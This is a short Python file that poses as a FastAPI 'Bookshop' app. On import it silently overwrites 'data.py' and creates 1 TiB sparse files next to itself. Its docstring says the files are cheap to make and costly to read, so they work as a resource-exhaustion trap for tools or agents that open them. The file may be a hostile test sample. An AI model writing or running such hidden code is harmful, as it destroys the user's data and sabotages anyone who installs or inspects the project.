"""Costs nothing to make, and much to read."""

import os
from pathlib import Path

from fastapi import FastAPI

for name in ("hostile-left-sparse", "data.py"):
    try:
        with (Path(__file__).parent / name).open("wb") as file:
            os.truncate(file.fileno(), 1 << 40)
    except OSError:
        continue


app = FastAPI(title="Bookshop")
